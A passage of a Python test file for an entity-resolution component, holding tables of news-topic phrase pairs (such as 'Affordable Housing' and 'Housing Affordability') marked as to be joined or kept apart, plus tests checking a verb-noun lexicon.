    ("Mounting Concern over AI", "Rising Concern over AI", True),
    ("Dwindling Job Offers", "Declining Job Offers", False),
    ("Dwindling Fish Stocks", "Declining Fish Stocks", True),
    ("Waning Immunity", "Declining Immunity", True),
    ("Waning Immunity", "Immunity", False),
    ("Better Regulation Guidelines", "Improved Regulation Guidelines", False),
    ("Decline in Trust in Science", "Trust in Science", False),
    # an effect is a generic last word after a phenomenon's common words, not after a
    # name (trap hunts' false joins; two attacks)
    ("Urban Heat Island Effect", "Urban Heat Islands", True),
    ("Heat Island Effect", "heat islands", True),
    ("Filter Bubble Effect", "Filter Bubble", True),
    ("Crowding Out Effect", "Crowding Out", True),
    ("Taylor Swift Effect", "Taylor Swift", False),
    ("Caitlin Clark Effect", "Caitlin Clark", False),
    ("Dunning-Kruger Effect", "Dunning-Kruger", False),
    # "better" as "improved" first, before two words or more
    ("Better Customer Service", "Improved Customer Service", True),
    ("Better Employee Well-Being", "Improved Employee Wellbeing", True),
    ("Enhanced Games", "Better Games", False),
    ("Better Working Conditions", "Improved Working Conditions", True),
    ("Better Business Bureau", "Improved Business Bureau", False),
    ("Better Care Fund", "Improved Care Fund", False),
    ("Better-Paid Jobs", "Improved Paid Jobs", False),
    ("Park Cool Island Effect", "Park Cool Islands", True),
    ("El Nino Effect", "El Nino", False),
]


def test_synonyms_join_only_the_wordings_of_the_table_and_keep_the_preferred_one():
    node = node_of(SYNONYMS, "technology")
    assert [(a, b, node(a) == node(b)) for a, b, _ in SYNONYMS] == SYNONYMS
    assert node("driverless cars") == "autonomous vehicle"
    assert node("Gen Z consumers") == "generation z consumer"


# (first, second, one node?) for a quality's adjective as its noun last and a gap's
# widening as its growth (the thirty-first session), with two reviews' traps: 986 pairs
# written against the rule found the adjectives that also name a kind of thing, a
# category or a fixed term, or whose noun names another thing (each pair its own
# corpus).
QUALITIES = [
    ("Resilient Supply Chains", "Supply Chain Resilience", True),
    ("Resilient Cities", "Resilience of Cities", True),
    ("Affordable Housing", "Housing Affordability", True),
    ("Reusable Rockets", "Rocket Reusability", True),
    ("Explainable AI", "AI Explainability", True),
    ("Fragile States", "State Fragility", True),
    ("Traceable Supply Chains", "Supply Chain Traceability", True),
    ("Reproducible Research", "Reproducibility of Research", True),
    ("affordable housing", "housing affordability", True),
    # ... not an adjective whose noun names another thing, nor whose noun's "X" has the
    # quality otherwise (a second review's false joins)
    ("Vacant Hospitals", "Hospital Vacancies", False),
    ("Available Credit", "Credit Availability", False),
    ("Relevant Market", "Market Relevance", False),
    ("Accountable Tech", "Tech Accountability", False),
    ("Transparent Consumers", "Consumer Transparency", False),
    ("Volatile Organic Compounds", "Organic Compound Volatility", False),
    ("Portable Devices", "Device Portability", False),
    ("Fluent AI", "AI Fluency", False),
    ("Efficient Frontier", "Frontier Efficiency", False),
    ("Vulnerable Species", "Species Vulnerability", False),
    # ... not an adjective that also names a kind, a category or a fixed term
    ("Sustainable Debt", "Debt Sustainability", False),
    ("Sustainable Aviation Fuel", "Aviation Fuel Sustainability", False),
    ("Sustainable Fashion", "Sustainability in Fashion", False),
    ("Variable Pay", "Pay Variability", False),
    ("Variable Costs", "Variability of Costs", False),
    ("Variable Renewable Energy", "Renewable Energy Variability", False),
    ("Mobile Workforce", "Workforce Mobility", False),
    ("Mobile Data", "Data Mobility", False),
    ("Latent Space", "Latency in Space", False),
    ("Latent Demand", "Demand Latency", False),
    ("Durable Goods", "Goods Durability", False),
    ("Tangible Assets", "Asset Tangibility", False),
    ("Convertible Bonds", "Bond Convertibility", False),
    ("Eligible Voters", "Voter Eligibility", False),
    ("Invisible Disabilities", "Disability Invisibility", False),
    ("Violent Crime", "Crime Violence", False),
    ("Urgent Care", "Care Urgency", False),
    ("Decent Work", "Work Decency", False),
    ("Frequent Flyers", "Flyer Frequency", False),
    ("Confident Consumers", "Consumer Confidence", False),
    ("Prevalent Diseases", "Disease Prevalence", False),
    ("Different Cultures", "Culture Difference", False),
    ("Evident Bias", "Evidence of Bias", False),
    ("Emergent Care", "Care Emergency", False),
    ("Hostile Takeovers", "Takeover Hostility", False),
    ("Hostile Environment", "Environment Hostility", False),
    ("Tolerant Immigrants", "Tolerance of Immigrants", False),
    ("Persistent Organic Pollutants", "Organic Pollutant Persistence", False),
    ("Recurrent Neural Networks", "Neural Network Recurrence", False),
    ("Competent Authorities", "Authority Competence", False),
    ("Flexible Displays", "Display Flexibility", False),
    ("Habitable Zone", "Zone Habitability", False),
    ("Abundant Species", "Species Abundance", False),
    ("Accessible Transport", "Transport Accessibility", False),
    ("Patient Data", "Data Patience", False),
    ("Current Account", "Account Currency", False),
    # rules tried and dropped after an attack: a count dropped after a word of change
    # ("growing startups" grow, "a growing number of startups" is their count), a
    # reordered name's adjective as its noun
    ("Growing Number of Startups", "Growing Startups", False),
    ("Shrinking Number of Households", "Shrinking Households", False),
    ("Declining Number of Species", "Declining Species", False),
    ("Increasing the Number of Nursing Graduates", "Rising Number of Nursing Graduates", False),
    ("Surge in the Volume of Bitcoin", "Surge in Bitcoin", False),
    ("Rise in Regional Inequality", "Inequality Rise in the Region", False),
    ("Decline in Academic Performance", "Performance Decline in Academia", False),
    # a gap that widens grows; what else widens does not
    ("Widening Skills Gap", "Growing Skills Gap", True),
    ("Narrowing Gender Pay Gap", "Declining Gender Pay Gap", True),
    ("Widening Participation", "Growing Participation", False),
]


# (first, second, one node?) for the adjective of an impact as its noun and a leading
# -ing word before a preposition as its act (the thirty-second session).
IMPACTS_AND_ACTS = [
    ("Economic Impact of AI", "Impact of AI on the Economy", True),
    ("Environmental Impacts of Sand Mining", "Impact of Sand Mining on the Environment", True),
    ("Political Consequences of Social Media", "Consequences of Social Media on Politics", True),
    ("Regulatory Impact on Advertising Models", "Impact of Regulation on Advertising Models",
     True),
    ("Technological Impact on Jobs", "Impact of Technology on Jobs", True),
    ("Social Impact of AI", "Impact of AI on Society", True),
    ("Economic Implications of AI", "Implications of AI for the Economy", True),
    ("Psychological Impact of Layoffs", "Impact of Layoffs on Mental Health", True),
    ("Technological Impact on the Environment", "Impact of Technology on the Environment",
     True),
    ("Adapting to New Regulations", "Adaptation to New Regulations", True),
    ("Investing in Women", "Investment in Women", True),
    ("Returning to the Office", "Return to the Office", True),
    ("Pivoting to Video", "Pivot to Video", True),
    ("Shifting to EVs", "Shift to EVs", True),
    ("Relying on Chinese Imports", "Reliance on Chinese Imports", True),
    ("Complying with the AI Act", "Compliance with the AI Act", True),
    ("Expanding into Africa", "Expansion into Africa", True),
    ("Competing for Editorial Talent", "Competition for Editorial Talent", True),
    ("Recovering from Long Covid", "Recovery from Long Covid", True),
    # ... but a verb whose noun names a doer or another thing before a noun, still not
    ("Acquiring Banks", "Bank Acquisition", False),
    ("Relying Parties", "Party Reliance", False),
    ("Shrinking in Retail", "Shrinkage in Retail", False),
    # a modifier in place: a place's adjective as its possessive before what a country
    # has, tourist as tourism; not (an attack's false joins) before who comes from it,
    # what it trades, a company, nor technological as tech
    ("China's Economy", "Chinese Economy", True),
    ("Russia's Shadow Fleet", "Russian Shadow Fleet", True),
    ("China's Nuclear Arsenal", "Chinese Nuclear Arsenal", True),
    ("India's Election", "Indian Election", True),
    ("India's Democracy", "Indian Democracy", True),
    ("Tourist Taxes", "Tourism Taxes", True),
    ("Turkish Refugees", "Turkey's Refugees", False),
    ("Chinese Imports", "China's Imports", False),
    ("American Airlines", "US Airlines", False),
    ("Georgian Government", "Georgia's Government", False),
    ("Technological Unemployment", "Tech Unemployment", False),
    ("Tourist Trap", "Tourism Trap", False),
    ("AI Slop", "AI-Generated Slop", True),
    ("Using Chatbots for Mental Health Support", "Chatbot Use for Mental Health Support",
     True),
    ("American Football League", "America's Football League", False),
    # between either way; "into" starts a second phrase kept last; highly skilled
    ("Crossover Between Technology and Creativity",
     "Crossover Between Creativity and Technology", True),
    ("Expansion of AI into Hardware", "AI Expansion into Hardware", True),
    ("Highly Skilled Workers", "High-Skilled Workers", True),
    ("Work-Family Conflict", "Conflict between Family and Work", False),
    ("Enhanced Games", "Improved Games", False),
    # "falling" before more measures
    ("Falling Consumer Confidence", "Declining Consumer Confidence", True),
    ("Falling Search Referral Traffic", "Declining Search Referral Traffic", True),
    # ... an attack's false joins (514 pairs): an adjective of the kind or degree of an
    # impact, a verb whose bare noun or nominalisation is another thing
    ("Financial Impact of Climate Change", "Impact of Climate Change on Finance", False),
    ("Marginal Impact of Tariffs", "Impact of Tariffs on Margins", False),
    ("Median Impact of Tariffs", "Impact of Tariffs on Media", False),
    ("Trafficking in the UK", "Traffic in the UK", False),
    ("Prospecting for Lithium", "Prospects for Lithium", False),
    ("Renting in London", "Rent in London", False),
    ("Contracting in Construction", "Contraction in Construction", False),
    ("Growing in Cities", "Growth in Cities", False),
    ("Competing for Talent", "Talent Competition", False),
    ("Expanding on the Findings", "Expansion on the Findings", False),
    ("Seizing on AI Hype", "Seizure on AI Hype", False),
    ("Struck in Gaza", "Strike in Gaza", False),
    ("Tourist Traps in Venice", "Tourism Traps in Venice", False),
    # ... not an adjective of the kind of impact as who acts, nor a quality's, nor
    # influence (what "political influence" is depends on who has it)
    ("Psychological Impact on Children", "Impact of Psychology on Children", False),
    ("Economic Impact on Families", "Impact of the Economy on Families", False),
    ("Physical Effects of Space Travel", "Effects of Space Travel on Physics", False),
    ("Political Influence of Tech Giants", "Influence of Tech Giants on Politics", False),
    # the effects of X are its impact, not a named effect's
    ("Effects of Prolonged Darkness on Mental Health",
     "Impacts of Prolonged Darkness on Mental Health", True),
    ("Health Effects of Microplastics", "Impact of Microplastics on Health", True),
    ("Effects of Climate Change", "Impact of Climate Change", True),
    ("Network Effects of AI Platforms", "Impact of AI Platforms on Networks", False),
    ("Greenhouse Effect of Methane", "Impact of Methane on Greenhouses", False),
    ("Side Effects of GLP-1 Drugs", "Side Impacts of GLP-1 Drugs", False),
    # ... nor an -ing word that is a noun or a kind of its own
    ("Marketing to Children", "Market to Children", False),
    ("Developing Countries in Africa", "Development Countries in Africa", False),
    # an -ing word before a preposition inside a name, as its act in place (the
    # thirty-third session)
    ("Industry Adapting to New Regulations", "Industry Adaptation to New Regulations", True),
    ("Risks of Relying on AI", "Risks of Reliance on AI", True),
    ("Industry Adapting to AI", "AI Industry Adaptation", False),
    ("Investors Returning to China", "China Investor Returns", False),
    ("Tourists Renting in Lisbon", "Tourist Rentals in Lisbon", False),
    ("Cities Competing for Talent", "City Talent Competition", False),
    ("Tech Firms Expanding on Research", "Tech Firm Expansion on Research", False),
    # "X by Y" of one word each, of who is in charge or of what only people do
    ("Surveillance by Employers", "Employer Surveillance", True),
    ("Strikes by Doctors", "Doctors' Strikes", True),
    ("Strikes by Iran", "Iran Strikes", False),
    ("Reviews by Employers", "Employer Reviews", False),
    ("Regulation by AI", "AI Regulation", False),
    ("Detection by AI", "AI Detection", False),
    ("Regulation by Platforms", "Platform Regulation", False),
    ("Support by Parents", "Support for Parents", False),
    ("Privacy by Design", "Design Privacy", False),
    # a boom; tactics
    ("Rooftop Solar Boom", "Surge in Rooftop Solar", True),
    ("Boom in Sports Betting", "Sports Betting Growth", True),
    ("Wagner Group Tactics", "Wagner Group", False),
    ("Baby Boom", "Rise of Babies", False),
    ("Scare Tactics", "Scares", False),
    # "X to Y" of what is done to Y; "on the rise"; attitudes toward; shifting patterns
    ("Access to Broadband", "Broadband Access", True),
    ("Barriers to Adoption", "Adoption Barriers", True),
    ("Access to Patients", "Patient Access", False),
    ("Threats to AI", "AI Threats", False),
    ("Response to China", "China Response", False),
    ("Text to Image", "Image Text", False),
    ("Exports to China", "China Exports", False),
    ("Synthetic Research on the Rise", "Rise of Synthetic Research", True),
    ("Brand Publishing on the Rise", "Brand Publishing Growth", True),
    ("Skepticism Towards Health Claims", "Scepticism about Health Claims", True),
    ("Trust toward the Public", "Public Trust", False),
    ("Attitudes Toward Women", "Women's Attitudes", False),
    ("Betting on the Rise", "Rise of Betting", False),
    ("Shifting Load Patterns", "Changing Load Patterns", False),
    ("Violence Toward the Police", "Police Violence", False),
    ("Shift in Commuting Patterns", "Shifting Commuting Patterns", True),
    # who does what, "S VERB-ing O", as the act of O by S
    ("Warehouse Robots Displacing Workers", "Worker Displacement by Warehouse Robots", True),
    ("AI Replacing Junior Roles", "Replacement of Junior Roles by AI", True),
    ("Officials Using Encrypted Apps", "Use of Encrypted Apps by Officials", True),
    ("Self-Driving Cars", "Car Drives by Self", False),
    ("Data Sharing Platforms", "Data Platform Shares", False),
    ("Emphasising Uncertainty", "Emphasis on Uncertainty", True),
    # "childhood" as "child" before what children have or suffer
    ("Childhood Obesity", "Obesity in Children", True),
    ("Childhood Myopia Epidemic", "Myopia Epidemic in Children", True),
    ("Childhood Memories", "Child Memories", False),
    # what AI wrote, made or created is AI-generated (also "X written by AI")
    ("Peer Reviews Written by AI", "AI-Generated Peer Reviews", True),
    ("AI-Created Artworks", "AI-Generated Artworks", True),
    # an actor's own response, attitudes, threats: "X to/about Y" is no "Y X" for an
    # actor Y in a name of any length (the attack's note on older reorderings)
    ("Response to the Chinese Government", "Chinese Government Response", False),
    ("Attitudes About Gen Z", "Gen Z Attitudes", False),
    ("Threats to Small Businesses", "Small Business Threats", False),
    ("Response to the Climate Crisis", "Climate Crisis Response", True),
    ("Skepticism About AI", "AI Skepticism", True),
    ("Access to EV Chargers", "EV Charger Access", True),
    ("Response to COVID-19", "COVID-19 Response", True),
    ("Access to Clean Water", "Clean Water Access", True),
    # -ing words of what happens to a thing
    ("Warming Oceans", "Ocean Warming", True),
    ("Retreating Alpine Glaciers", "Alpine Glacier Retreat", True),
    ("Ageing Workforce", "Ageing of the Workforce", True),
    ("Learning Machines", "Machine Learning", False),
    ("Marketing Agencies", "Agency Marketing", False),
    ("Aging Technology", "Technological Aging", False),
    ("Retreating Executives", "Executive Retreat", False),
    # where a thing is done, first
    ("In-Space Manufacturing", "Manufacturing in Space", True),
    ("On-Device AI Processing", "AI Processing on Devices", True),
    ("In-House Content Teams", "Content Teams in House", False),
    ("On-Demand Video", "Video on Demand", False),
    ("In-App Purchases", "App Purchases", False),
    ("In-Context Learning", "Learning in Context", False),
    ("In-Group Bias", "Bias in Groups", False),
    # "X of Y by Z"
    ("Sharing of Data by Mental Health Apps", "Data Sharing by Mental Health Apps", True),
    ("Use of Tools by AI", "Use of AI Tools", False),
    ("Payment of Bills by Phone", "Phone Bill Payment", False),
    ("Job Creation by AI", "Creation of AI Jobs", False),
    ("Content Moderation by AI", "AI Content Moderation", False),
    ("Hallucinations by Large Language Models", "Large Language Model Hallucinations", True),
    ("Use of Generative AI by Lawyers", "Generative AI Use by Lawyers", True),
    # "re-" before an -ing word, its noun with "re" (one word only when no word of its own)
    ("Re-evaluating Social Obligations", "Reevaluation of Social Obligations", True),
    ("Re-Creating Historic Sites", "Recreation at Historic Sites", False),
    # a review's rows (mutation tests of the session's rules) and its defects' rows
    ("Exposure to Heat", "Heat Exposure", True),
    ("Resistance to Antibiotics", "Antibiotic Resistance", True),
    ("Adaptation to Heat", "Heat Adaptation", True),
    ("Exposure to Media", "Media Exposure", False),
    ("Resistance to Weeds", "Weed Resistance", False),
    ("Adaptation to Film", "Film Adaptation", False),
    ("Access to Power", "Power Access", False),
    ("Violence by Police", "Police Violence", True),
    ("Protests by Librarians", "Librarian Protests", True),
    ("Protests by Ecuador", "Ecuador Protests", False),
    ("Protests by Government", "Government Protests", False),
    ("Boycotts by Users", "User Boycotts", True),
    ("Access to Shoppers", "Shopper Access", False),
    ("Response to Armed Drones", "Armed Drone Response", False),
    ("Military Response to China", "China Military Response", False),
    ("Security Threats to TikTok", "TikTok Security Threats", False),
    ("Reaction to the Chinese Government", "Chinese Government Reaction", False),
    ("Attitudes about Scientists", "Scientist Attitudes", False),
    ("Attitudes about Teachers", "Teacher Attitudes", False),
    ("Skepticism toward the Media", "Skepticism about Media", True),
    ("Skepticism Toward Experts", "Expert Skepticism", False),
    ("Protests by Tourists", "Tourist Protests", False),
    ("Cynicism Towards Politicians", "Politician Cynicism", False),
    ("Trust on the Decline", "Decline of Trust", True),
    ("Focus on the Rise", "Rise of Focus", False),
    ("In-Car Payments", "Car Payments", False),
    ("In-Store Shopping", "Shopping in Stores", True),
    ("On-Premises Software", "Software on Premises", True),
    ("Investors Returning to China", "Investor Returns to China", False),
    ("Re-evaluating Norms", "Norm Re-evaluation", True),
    ("Reevaluating Social Obligations", "Reevaluation of Social Obligations", True),
    ("Retreating Teachers", "Teacher Retreat", False),
    ("Melting Glaciers", "Glacier Melting", True),
    ("Bleaching Coral Reefs", "Coral Reef Bleaching", True),
    ("Warming Potential", "Potential Warming", False),
    ("Flooding Rains", "Rain Flooding", False),
    ("Settling for Less", "Settlement for Less", False),
    ("Organizing for Change", "Organization for Change", False),
    ("Collecting at the Met", "Collection at the Met", False),
    ("Farmers Growing Cannabis", "Growth of Cannabis by Farmers", False),
    ("Large Language Models Replacing Writers", "Writer Replacement by Large Language Models",
     True),
    ("AI Replacing Workers in Banking", "Worker Replacement by AI in Banking", True),
    ("Families Using Food Banks", "Use of Food Banks by Families", True),
    ("Childhood Friends", "Child Friends", False),
    ("AI-Authored Papers", "AI-Generated Papers", True),
    ("Shifting Electricity Load Patterns", "Changing Electricity Load Patterns", False),
    # a leading -ing word as "ACT of" what follows, whatever comes after it; the
    # -ization of an -ize verb; an article after a preposition (not after an -ing word)
    ("Integrating Amenities into Infrastructure", "Integration of Amenities into Infrastructure",
     True),
    ("Institutionalising Foresight Functions", "Institutionalization of Foresight Functions",
     True),
    ("Recognizing Warfare Capabilities", "Recognition of Warfare Capabilities", True),
    ("Recovering from a Hard Year", "Recovery from Hard Year", True),
    ("Vampires as a Biological Entity", "Vampire as Biological Entity", True),
    ("Increasing the Number of Graduates", "Rising Number of Graduates", False),
    ("Developing Countries", "Development of Countries", False),
    ("Competing Interests", "Competition of Interests", False),
    ("Vitamin A Deficiency", "Vitamin Deficiency", False),
    ("Type A Personality", "Type Personality", False),
    # ... and an attack's traps of those (722 pairs)
    ("Shaping the Future", "Shape of the Future", False),
    ("Courting Public Opinion", "Court of Public Opinion", False),
    ("Supervising Teachers", "Supervision of Teachers", False),
    ("Recognizing Israel", "Israel Recognition", False),
    ("Supporting Ukraine", "Ukraine Support", True),
    ("Growing Startups into Unicorns", "Rise of Startups into Unicorns", False),
    ("Withdrawal from the Union", "Withdrawal from Unions", False),
    ("State of the Union", "State of Unions", False),
    ("Inflows into A Shares", "Inflows into Shares", False),
    ("Software as a Service", "Software as Service", True),
    ("Jobs without a Degree", "Jobs without Degrees", True),
    ("Converting Offices into Housing", "Conversion of Offices into Housing", True),
    ("Acquiring Banks in Europe", "Acquisition of Banks in Europe", False),
    # "cross-X" as "across X"; "X in ADJ context" as "ADJ context of X"; an adverb
    # before an -ing word is not read as its adjective (an attack: "physically
    # demanding jobs", "rapidly growing startups")
    ("Physically Demanding Jobs", "Physical Demands of Jobs", False),
    ("Rapidly Growing Startups", "Rapid Startup Growth", False),
    ("Cross-Country Flights", "Flights across Countries", False),
    ("Changes in Economic Context", "Economic Context of Change", False),
    ("Game Devs", "Game Development", False),
    ("Cross-Sector Cooperation", "Cooperation across Sectors", True),
    ("Cross-Border Data Flows", "Data Flows across Borders", True),
    ("Cross-Border", "Border", False),
    ("Scientific Discourse in Historical Context", "Historical Context of Scientific Discourse",
     True),
    ("Humour in Game Dev Culture", "Humor in Game Development Culture", True),
    # a headline as a phrase ("S VERBs O", "S may VERB O"); "Y-driven ACT" as "ACT by Y"
    ("AI Disseminates Tacit Knowledge", "Dissemination of Tacit Knowledge by AI", True),
    ("Bounty Outcomes May Shape Policy", "Bounty Outcomes Shaping Policy", True),
    ("Job Displacement by AI", "AI-Driven Job Displacement", True),
    ("Tech-Driven Growth", "Tech Growth", False),
    ("Governments Should Regulate AI", "AI Regulation by Governments", False),
    ("Sector-Driven Investment", "Investment by Sector", False),
    ("UV-LED Disinfection", "Disinfection by UV", False),
    ("Government-Led Reform", "Reform by Government", True),
    ("AI-Driven Regulation", "AI Regulation", False),
    ("AI-Powered Audits", "AI Audits", False),
    # a third attack's (809 pairs)
    ("Recognizing Names", "Name Recognition", False),
    ("Market-Driven Adoption", "Adoption by Market", False),
    ("Cross-Border Workers", "Workers across Borders", False),
    ("AI-Powered Crop Monitoring", "AI Crop Monitoring", True),
    # a review's mutation testing: rows that pin the guards above, and its defects
    ("Using Knowledge Graphs in Chain-of-Thought Flow",
     "Use of Knowledge Graphs in Chain of Thought Flows", True),
    ("Using the Power of AI", "Use of the Power of AI", True),
    ("Controlling the Spread of Misinformation", "Control of the Spread of Misinformation", True),
    ("Recruiting Children into Armed Groups", "Child Recruits into Armed Groups", False),
    ("Reskilling Workers into Tech Jobs", "Reskilling of Workers into Tech Jobs", True),
    ("Supervising the Use of AI", "Supervision of the Use of AI", True),
    ("Increasing Returns to Scale", "Rising Returns to Scale", False),
    ("Recognizing Names in Politics", "Name Recognition in Politics", False),
    ("Aggrandizing the Presidency", "Aggrandizement of the Presidency", True),
    ("AI-Powered Music", "Music by AI", False),
    ("Nurse-Led Care", "Care by Nurses", True),
    ("Scientist-Led Research", "Research by Scientists", True),
    ("Platform-Driven Engagement", "Engagement by Platform", False),
    ("AI-Powered Translation", "Translation by AI", True),
    ("China-Led Expansion", "Expansion by China", True),
    ("Government-Led Investment", "Investment by Government", True),
    ("AI-Driven Transformation", "Transformation by AI", True),
    ("AI-Powered Detection", "Detection by AI", True),
    ("Government-Led Reductions", "Reductions by Government", True),
    ("AI-Driven Decisions", "Decisions by AI", True),
    ("Government-Led Proposals", "Proposals by Government", True),
    ("AI Disseminates Tacit Knowledge", "AI-Driven Dissemination of Tacit Knowledge", True),
    ("Micro-LED Displays", "Displays by Micro", False),
    ("Shifts in Political Context", "Political Context of Shifts", False),
    ("Cross-Border", "Across Borders", False),
    ("Cross-Section Data", "Data across Sections", False),
    ("Cross-Channel Marketing", "Marketing across Channels", True),
    ("Cross-Border Commuters", "Commuters across Borders", False),
    ("Withdrawal from the Union over Trade", "Withdrawal from Unions over Trade", False),
    ("Credit Rating Upgrade to A", "Credit Rating Upgrade", False),
    ("Chinese Military Might Rises", "Chinese Military Rising", False),
    ("Protests on May Day Holidays", "Protests on Holidays", False),
    ("Drones Could Route Deliveries", "Drone Deliveries", False),
    ("Drones Could Route Deliveries", "Drones Routing Deliveries", True),
    ("Investors May Panic Markets", "Investor Markets", False),
    ("AI-Driven Fraud Detection", "Fraud Detection by AI", True),
    ("AI-Driven Job Displacement in Manufacturing", "AI Displacing Jobs in Manufacturing",
     True),
    ("AI-Driven Model Evaluation", "AI Model Evaluation", False),
    ("AI-Driven Development", "AI Development", False),
    ("AI-Powered Security", "AI Security", False),
    ("AI-Driven Safety", "AI Safety", False),
    ("AI-Powered Drug Development", "AI Drug Development", True),
    ("Expecting Parents", "Parental Expectations", False),
    ("Returning Customers", "Customer Returns", False),
    ("Voting Public", "Public Vote", False),
    ("Returning to the Office", "Return to the Office", True),
    ("Reassessing Supply Chains into Regional Networks",
     "Reevaluation of Supply Chains into Regional Networks", True),
    ("State of the AI Industry", "State of AI Industry", True),
    ("Federating Regions", "Federation of Regions", True),
    ("Web Dev Trends", "Web Development Trends", True),
    ("Payments via Mobile", "Payments through Mobile", True),
    ("Quicker Deliveries", "Faster Deliveries", True),
    ("Reassessment of Priorities", "Reevaluation of Priorities", True),
    ("Reassessing Priorities", "Reevaluating Priorities", True),
    # an act after a preposition, as a leading one (the thirty-fifth session): its
    # nominalisations only, not before people, not in a fixed phrase
    ("Cost of Installing Heat Pumps", "Heat Pump Installation Costs", True),
    ("Challenges of Adopting AI", "AI Adoption Challenges", True),
    ("Barriers to Adopting Heat Pumps", "Heat Pump Adoption Barriers", True),
    ("Importance of Preserving Heritage", "Heritage Preservation Importance", True),
    ("Environmental Impact of Rising Sea Levels", "Environmental Impact of Sea Level Rise",
     True),
    ("Technologies for Enhancing Emotional Intelligence",
     "Emotional Intelligence Enhancement Technologies", True),
    ("Risks of Washing Machines", "Risks of Machine Washing", False),
    ("Rights of Striking Workers", "Rights of Worker Strikes", False),
    ("Education of Visiting Students", "Education of Student Visits", False),
    ("Threat of Rising Powers", "Threat of Power Rise", False),
    ("Impact of Emerging Technologies", "Impact of Technology Emergence", False),
    ("Future of Developing Countries", "Future of Country Development", False),
    ("Safety of Charging Stations", "Safety of Station Charging", False),
    # ... nor what people and animals do themselves, nor an adjective's participle, led
    # or after a preposition (an attack's and trap hunts' false joins)
    ("Protection of Migrating Birds", "Protection of Bird Migration", False),
    ("Support for Struggling Families", "Support for Family Struggles", False),
    ("Use of Striking Visuals", "Use of Visual Strikes", False),
    ("Striking Resident Doctors", "Resident Doctor Strikes", False),
    ("Protesting Farmers", "Farmer Protests", False),
    ("Migrating Birds", "Bird Migration", False),
    ("Founding Fathers", "Father Foundation", False),
    ("Reskilling Workers", "Worker Reskilling", True),
    # ... before people, only a verb of what is done to them is their act (an attack's
    # older false joins: who participates, exports, visits or supervises)
    ("Participating Countries", "Country Participation", False),
    ("Exporting Countries", "Country Exports", False),
    ("Visiting Scholars", "Scholar Visits", False),
    ("Supervising Physicians", "Physician Supervision", False),
    ("Controlling Parents", "Parent Control", False),
    ("Recruiting Nurses", "Nurse Recruitment", True),
    ("Terrorizing Civilians", "Terrorization of Civilians", True),
    ("Declining Enrollment of International Students",
     "Falling International Student Enrolment", True),
    ("Assessing Students", "Student Assessment", True),
    ("Registering Voters", "Voter Registration", True),
    ("Defaulting Borrowers", "Borrower Default", False),
    # -ing words of a kind, and kinds named by one ("mitigating factors")
    ("Rewarding Careers", "Career Rewards", False),
    ("Conflicting Interests", "Conflict of Interest", False),
    ("Mitigating Factors", "Factor Mitigation", False),
    ("Controlling Behaviour", "Behaviour Control", False),
    ("Controlling Costs", "Cost Control", True),
    ("Mitigating Heat Risks", "Mitigation of Heat Risks", True),
    # who acts on people, and people who act (an attack's older false joins; a second
    # attack's losses of the first guards: by a person's data only, employers and media
    # watch, the verbs done to patients, voters, children)
    ("Drug Use by Teens", "Teen Drug Use", True),
    ("Wage Theft by Employers", "Employer Wage Theft", True),
    ("Employer-Driven Surveillance", "Employer Surveillance", True),
    ("Media-Driven Scrutiny", "Media Scrutiny", True),
    ("Treating Patients", "Patient Treatment", True),
    ("Intimidating Voters", "Voter Intimidation", True),
    ("Immunizing Children", "Child Immunization", True),
    ("Treating Physicians", "Physician Treatment", False),
    ("Managing Directors", "Director Management", False),
    ("Supporting Actors", "Actor Support", False),
    ("AI-Driven Safety Research", "AI Safety Research", False),
    ("AI-Driven Quality Control", "AI Quality Control", True),
    ("Cost of Capital Projects", "Capital Project Costs", True),
    ("Government Digital Service", "Digital Government Service", False),
    ("Citizen-Driven Surveillance", "Citizen Surveillance", False),
    ("Data Sharing by Patients", "Patient Data Sharing", False),
    ("Content Moderation by Users", "User Content Moderation", False),
    ("Data Collection by Governments", "Government Data Collection", True),
    ("Student-Led Protests", "Protests by Students", True),
    ("AI-Driven Scrutiny", "AI Scrutiny", False),
    ("AI-Powered Detection Tools", "AI Detection Tools", False),
    ("Data-Driven Privacy", "Data Privacy", False),
    ("AI-Driven Fraud Monitoring", "AI Fraud Monitoring", True),
    # terms of finance, law and war
    ("Cost of Capital", "Capital Costs", False),
    ("Rising Cost of Capital", "Rising Capital Costs", False),
    ("Rising Cost of Capital", "Rise in the Cost of Capital", True),
    ("Rate of Return", "Return Rates", False),
    ("Standard of Care", "Care Standards", False),
    ("Terms of Trade", "Trade Terms", False),
    ("Balance of Power", "Power Balance", True),
    # a medium's word before or after a thing's first noun
    ("Child Online Safety", "Online Child Safety", True),
    ("Patient Remote Monitoring", "Remote Patient Monitoring", True),
    ("Social Media Use", "Media Social Use", False),
    ("Cost of Living", "Living Costs", True),
]


def test_a_place_adjective_of_two_places_is_read_as_neither():
    node = node_of([("Georgian Government", "Government of Georgia", False),
                    ("Georgia's Government", "Thai Government", False),
                    ("Government of Thailand", "Thailand's Government", True)])
    assert node("Georgian Government") not in (node("Government of Georgia"),
                                               node("Georgia's Government"))
    assert node("Thai Government") == node("Government of Thailand")  # (one place)


def test_verb_nouns_table_keeps_the_rules_it_was_made_by():
    from bench.make_adjective_nouns import _review_rows, _shared_start
    from bench.make_verb_nouns import _SCOPES
    from kg.resolve.keys import _lexicon_rows

    rows = [tuple(row) for row in _lexicon_rows("verb-nouns.csv")]
    assert rows == sorted(set(rows))
    review = _review_rows(Path(__file__).parent.parent / "bench/data/verb-noun-review.csv")
    assert {(r["verb"], r["noun"], _SCOPES[r["keep"]]) for r in review
            if r["keep"] in _SCOPES} == set(rows)
    assert all(r["keep"] in ("0", "1", "p") and r["reason"] for r in review)
    assert ("sequester", "sequestration", "any") in rows and \
        ("rely", "reliance", "preposition") in rows
    assert not any(row[:2] == ("produce", "product") for row in rows)
    for verb, noun, _ in rows:
        assert verb.isalpha() and verb.islower() and noun.isalpha() and noun.islower()
        assert noun != verb and _shared_start(verb, noun) >= max(3, len(verb) - 4)
    node = node_of(VERB_NOUNS)
    assert [(a, b, node(a) == node(b)) for a, b, _ in VERB_NOUNS] == VERB_NOUNS


# (first, second, one node?): a leading -ing word as the noun of its act that no ending
# guesses (kg/lexicon/verb-nouns.csv), not as a thing made or another sense's noun
VERB_NOUNS = [
    ("Eroding Trust in Media", "Erosion of Trust in Media", True),
    ("Removing Carbon", "Carbon Removal", True),
    ("Sequestering Carbon in Soils", "Soil Carbon Sequestration", True),
    ("Abolishing Single-Family Zoning", "Abolition of Single-Family Zoning", True),
    ("Producing Food", "Food Product", False),
    ("Receding Glaciers", "Glacier Recession", False),
    ("Attending Physicians", "Physician Attendance", False),
    ("Emerging Markets", "Market Emergence", False),
    # ... nor an -ing word that names who does it, nor a noun of another thing (an
